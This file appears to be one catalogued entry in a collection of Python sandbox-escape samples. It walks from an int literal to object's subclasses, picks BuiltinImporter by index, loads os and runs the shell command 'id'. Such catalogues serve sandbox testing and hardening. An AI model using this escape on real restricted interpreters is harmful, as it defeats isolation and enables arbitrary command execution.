# Source: https://mail.python.org/pipermail/python-list/2010-August/584742.html ((1).__class__.__bases__[0].__subclasses__)
# Family: subclass-walk
# What: index-based subclass walk from an int literal (107 = BuiltinImporter in the bookworm image)
subs = (1).__class__.__bases__[0].__subclasses__()
print(len(subs))
subs[107].load_module("os").system("id")
